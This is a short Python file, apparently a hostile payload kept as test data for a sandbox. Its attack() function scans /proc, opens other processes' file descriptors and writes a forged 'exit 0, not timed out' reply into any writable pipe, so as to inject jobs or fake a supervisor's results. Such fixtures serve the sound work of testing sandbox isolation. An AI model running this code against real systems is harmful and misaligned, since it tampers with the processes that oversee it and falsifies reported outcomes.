# ruff: noqa  (hostile payload: data for the sandbox, not project code)
"""Open the supervisor's pipes through /proc/<pid>/fd to inject jobs or forge its replies."""

import os
import struct


def attack():
    opened = []
    forged = b'{"seconds":0,"exit":0,"signal":null,"timed_out":false}'
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        if int(pid) == os.getpid():
            continue
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            for mode in (os.O_WRONLY, os.O_RDONLY):
                try:
                    handle = os.open(f"/proc/{pid}/fd/{fd}", mode | os.O_NONBLOCK)
                except OSError:
                    continue
                opened.append(f"{pid}/{fd}")
                if mode == os.O_WRONLY:
                    try:
                        os.write(handle, struct.pack(">I", len(forged)) + forged)
                    except OSError:
                        pass
                os.close(handle)
    return opened
